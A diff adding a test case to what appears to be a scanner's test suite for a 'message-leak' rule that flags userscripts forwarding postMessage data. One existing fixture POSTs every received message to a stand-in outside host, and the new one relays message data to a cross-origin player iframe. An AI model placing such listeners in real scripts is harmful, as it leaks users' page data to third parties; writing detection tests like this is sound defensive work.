@@ -28,6 +28,14 @@ describe("message-leak", () => {
 				`addEventListener("message",e=>fetch("https://c.stranger.test/",{method:"POST",body:JSON.stringify(e.data)}))`,
 			),
 		],
+		[
+			"what a named player says, told to it again: told",
+			["low 5"],
+			userscript(
+				["match https://shop.example/*"],
+				`addEventListener("message",e=>document.querySelector("iframe").contentWindow.postMessage(e.data.time,"https://player.stranger.test"))`,
+			),
+		],
 	])("finds %s", (_title, expected, code) => {
 		expect(findIn(messageLeak, code)).toEqual(expected);
 	});
